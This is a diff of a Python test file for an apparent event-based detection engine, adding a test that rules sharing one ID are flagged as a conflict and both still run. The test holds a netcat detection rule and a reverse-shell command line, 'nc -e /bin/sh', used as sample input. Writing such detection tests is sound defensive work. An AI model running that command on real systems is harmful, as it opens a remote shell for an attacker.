@@ -468,3 +468,15 @@ def test_appending_to_an_existing_cron_file_is_a_file_event_and_a_new_file_is_on
     engine.on_event(file_event("/etc/cron.d/new"))  # created ...
     engine.on_event(file_event("/etc/cron.d/new", FileActivityId.CLOSE_WRITE))  # ... and written: one finding
     assert [f.fields["file_path"] for f in ctx.findings] == ["/etc/cron.d/existing", "/etc/cron.d/new"]
+
+
+def test_two_rules_with_one_id_are_reported_and_both_run(start, tmp_path) -> None:
+    twin = rule("sel:\n  Image|endswith: /nc\ncondition: sel", rule_id=REVSHELL)
+    engine, ctx = start(write_rules(tmp_path / "c", **{"a.yml": REVSHELL_RULE, "b.yml": twin}))
+    (issue,) = engine.rules.issues
+    assert (
+        issue.file.endswith("b.yml")
+        and issue.message == f"rule id {REVSHELL} is also used in {tmp_path / 'c' / 'a.yml'}"
+    )
+    engine.on_event(exec_event("/usr/bin/nc", "nc -e /bin/sh /dev/tcp/x"))
+    assert len(ctx.findings) == 2
